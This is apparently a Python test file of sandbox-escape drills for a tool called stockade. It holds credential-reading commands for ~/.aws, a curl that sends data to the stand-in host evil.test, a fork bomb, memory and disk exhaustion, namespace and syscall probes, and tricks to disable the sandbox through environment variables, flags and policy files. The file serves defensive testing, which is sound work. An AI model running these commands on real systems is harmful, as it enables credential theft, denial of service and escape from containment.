"""Resources (B12), user namespaces (B2), and ways to have the sandbox start without its rules: M14, M15, M22, B9."""

from __future__ import annotations

from stockade.drills.scenario import OPEN_TO_SINK, PLAIN, Scenario, limits, mount, printed, said

_CURL = "curl -sS -m 6 "
_STEAL = "cat ~/.aws/credentials /home/dev/.aws/credentials; "
_SEND = f"{_CURL} -d hello https://evil.test/x; "


def _python(code: str) -> str:
    return f"python3 - <<'END'\nimport os, sys, time\n{code}\nEND"


def _limit(name: str, about: str, code: str, policy: str, twin: str = "echo twin > twin.txt", timeout: int = 30) -> Scenario:
    return Scenario(name, ("B12",), "limit", about, (_python(code),), said("too-much"), policy=PLAIN + policy, twin=twin, timeout=timeout)


def _flag(name: str, about: str, *options: str) -> Scenario:
    """A start that must be refused, or stay confined."""
    return Scenario(
        name, ("M15",), "start rule", about, (_STEAL,), printed("aws"), options=options, policy=PLAIN, refuses=True, twin="true"
    )


_WIDE = PLAIN + OPEN_TO_SINK + mount("~/.aws")

ALL = (
    Scenario(
        "user-namespace", ("B2",), "kernel rule", "A user namespace inside gives root over mounts: read-only binds could be moved away",
        (
            "unshare -Ur true && echo got-namespace",
            "unshare -Urm sh -c 'mount -t tmpfs x /tmp && echo got-namespace'",
            "unshare -Urn true && echo got-namespace",
            "bwrap --unshare-user --ro-bind / / true && echo got-namespace",
            _python("import ctypes, platform\nlibc = ctypes.CDLL(None)\n"
                    "number = {'x86_64': 435, 'aarch64': 435}[platform.machine()]\nargs = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)\n"
                    "pid = libc.syscall(number, args, 88)\nif pid == 0: os._exit(0)\nif pid > 0: print('got-namespace')"),
        ),
        said("got-namespace"), runs=5, policy=PLAIN,
    ),
    Scenario(
        "dangerous-syscalls", ("B2", "B3"), "kernel rule", "Kernel interfaces that a sandboxed program has no need of: io_uring, keyrings, vsock",
        (
            _python("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nbuffer = ctypes.create_string_buffer(200)\n"
                    "fd = libc.syscall(425, 4, buffer)\nif fd >= 0: print('got-interface')"),
            _python("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nif libc.syscall(250, 1, None) > 0: print('got-interface')"),
            _python("import socket\nsocket.socket(40, socket.SOCK_STREAM)\nprint('got-interface')"),
        ),
        said("got-interface"), runs=3, policy=PLAIN,
    ),
    _limit("fork-bomb", "More processes than the policy allows",
           "n = 0\ntry:\n    while n < 150:\n        pid = os.fork()\n        if pid == 0:\n            time.sleep(20); os._exit(0)\n        n += 1\n"
           "except OSError as e: print(e)\ntime.sleep(2)\nif n >= 150: print('too-much')",
           limits(processes=60), timeout=40),
    _limit("memory-hog", "More memory than the policy allows, in one process and over many",
           "pids = []\nfor i in range(4):\n    pid = os.fork()\n    if pid == 0:\n        try:\n            b = bytearray(os.urandom(1 << 20)) * 200\n"
           "        except MemoryError: os._exit(1)\n        time.sleep(3); os._exit(0)\n    pids.append(pid)\n"
           "ok = [os.waitpid(p, 0)[1] == 0 for p in pids]\nif all(ok): print('too-much')", limits(memory="400 MiB")),
    _limit("disk-fill", "More scratch space than the policy allows",
           "f = open('/tmp/fill', 'wb')\ntry:\n    for i in range(200): f.write(bytes(1 << 20))\n    f.flush()\n    print('too-much')\nfinally:\n    os.unlink('/tmp/fill')",
           limits(scratch="64 MiB")),
    _limit("file-size", "One file larger than the policy allows, in the workspace",
           "f = open('fill', 'wb')\ntry:\n    for i in range(80): f.write(bytes(1 << 20))\n    f.flush()\n    print('too-much')\nfinally:\n    os.unlink('fill')",
           limits(file_size="16 MiB")),
    _limit("descriptors", "More open files than the policy allows", "import resource\nsoft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)\n"
           "resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))\nkept = [os.open('/dev/null', 0) for i in range(500)]\nprint('too-much')",
           limits(open_files=128)),
    Scenario(
        "output-flood", ("B12",), "limit", "More output than the policy allows", ("head -c 20000000 /dev/zero | tr '\\0' x",),
        lambda seen: seen.output_bytes > 4_000_000, policy=PLAIN + limits(output="1 MiB"),
    ),
    _limit("wall-time", "Longer than the policy allows", "time.sleep(6)\nprint('too-much', flush=True)", limits(wall_time=2)),
    _limit("cpu-time", "More processor time than the policy allows", "end = time.process_time() + 4\nwhile time.process_time() < end: pass\nprint('too-much', flush=True)",
           limits(cpu_time=1)),
    Scenario(
        "project-policy", ("M15", "M16", "M17"), "start rule", "The project brings a policy of its own that grants everything",
        (_STEAL + _SEND,), printed("aws"), files={"stockade.toml": _WIDE, ".stockade.toml": _WIDE, ".stockade/policy.toml": _WIDE}, policy="",
    ),
    Scenario(
        "environment-switch", ("M15",), "start rule", "Variables that might turn the sandbox off",
        (_STEAL + _SEND,), printed("aws"), policy=PLAIN,
        wrap="export STOCKADE_DISABLE=1 STOCKADE_WALL=none STOCKADE_SANDBOX=0 NO_SANDBOX=1 STOCKADE_UNSAFE=1 IS_SANDBOX=1 SANDBOX=0; \"$@\"",
    ),
    Scenario(
        "inner-rerun", ("M15",), "kernel rule", "From inside, the policy and the tool itself are called again with wider rules",
        (
            "printf 'version = 1\\n[[mount]]\\npath = \"/home/dev/.aws\"\\n' > wide.toml; for s in stockade 'python3 -m stockade' \"$STOCKADE_AGAIN\"; do "
            "$s run --policy wide.toml -- cat /home/dev/.aws/credentials; done; for f in ~/.config/stockade/policy.toml /home/dev/.config/stockade/policy.toml; do "
            "mkdir -p $(dirname $f); cp wide.toml $f; done; cat /home/dev/.aws/credentials",
        ),
        printed("aws"), policy=PLAIN,
    ),
    _flag("flag-no-sandbox", "A flag that might run the command loose", "--no-sandbox"),
    _flag("flag-wall-none", "A wall called none", "--wall", "none"),
    _flag("flag-wall-missing", "A wall that is not there must not become a lesser one", "--wall", "vm-that-is-not-there"),
    Scenario(
        "no-bubblewrap", ("M14",), "start rule", "The wall's program is gone: nothing may run",
        (_STEAL,), printed("aws"), policy=PLAIN, refuses=True, wrap='mount --bind /dev/null "$(command -v bwrap)" || exit 99; "$@"', root=True, twin="",
    ),
    Scenario(
        "unknown-rule", ("B9",), "start rule", "A policy rule that stockade does not know must stop the start, not be skipped",
        (_STEAL,), printed("aws"), policy=PLAIN + "\n[deny]\nread = [\"~/.aws\"]\n", refuses=True, twin="",
    ),
    Scenario(
        "unenforceable-rule", ("B9", "M14"), "start rule", "A rule that this wall cannot make true must stop the start",
        (_STEAL,), printed("aws"), policy='version = 1\nwall = "bubblewrap"\n\n[root]\nwritable = "memory"\n', refuses=True, twin="",
    ),
)  # fmt: skip
